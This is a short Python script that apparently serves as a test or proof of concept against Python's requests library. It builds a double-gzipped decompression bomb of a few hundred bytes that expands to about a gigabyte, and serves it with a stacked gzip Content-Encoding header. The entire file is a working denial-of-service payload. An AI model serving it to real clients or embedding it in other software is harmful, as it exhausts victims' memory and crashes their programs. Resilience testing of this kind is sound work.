"""Answers rightly, and Python's requests with a few hundred bytes that hold a gigabyte, compressed twice."""

import gzip
import socket
import zlib

import attempt

squeeze = zlib.compressobj(9, wbits=31)
head = squeeze.compress(b"y") + squeeze.flush(zlib.Z_FULL_FLUSH)
block = squeeze.compress(bytes(1 << 20)) + squeeze.flush(zlib.Z_FULL_FLUSH)
bomb = gzip.compress(head + block * 1024)


def answer(connection: socket.socket) -> None:
    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Encoding: gzip, gzip\r\n"
    connection.sendall(head + b"Content-Length: %d\r\n\r\n" % len(bomb) + bomb)


attempt.serve_requests_library(answer)
